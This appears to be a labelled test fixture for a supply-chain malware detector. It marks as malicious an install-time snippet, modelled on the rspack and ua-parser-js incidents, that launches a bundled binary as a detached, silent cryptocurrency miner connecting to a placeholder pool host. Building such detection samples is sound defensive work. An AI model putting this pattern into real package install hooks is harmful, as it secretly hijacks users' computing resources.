// when: install
// expect: malicious
// source: rspack 1.1.7 / ua-parser-js 0.7.29 shape: a miner started with a pool URL, detached.
const { spawn } = require('child_process'), path = require('path');
spawn(path.join(__dirname, 'bin', 'node-helper'), ['-o', 'stratum+tcp://pool.example:3333', '-u', 'FAKE', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();
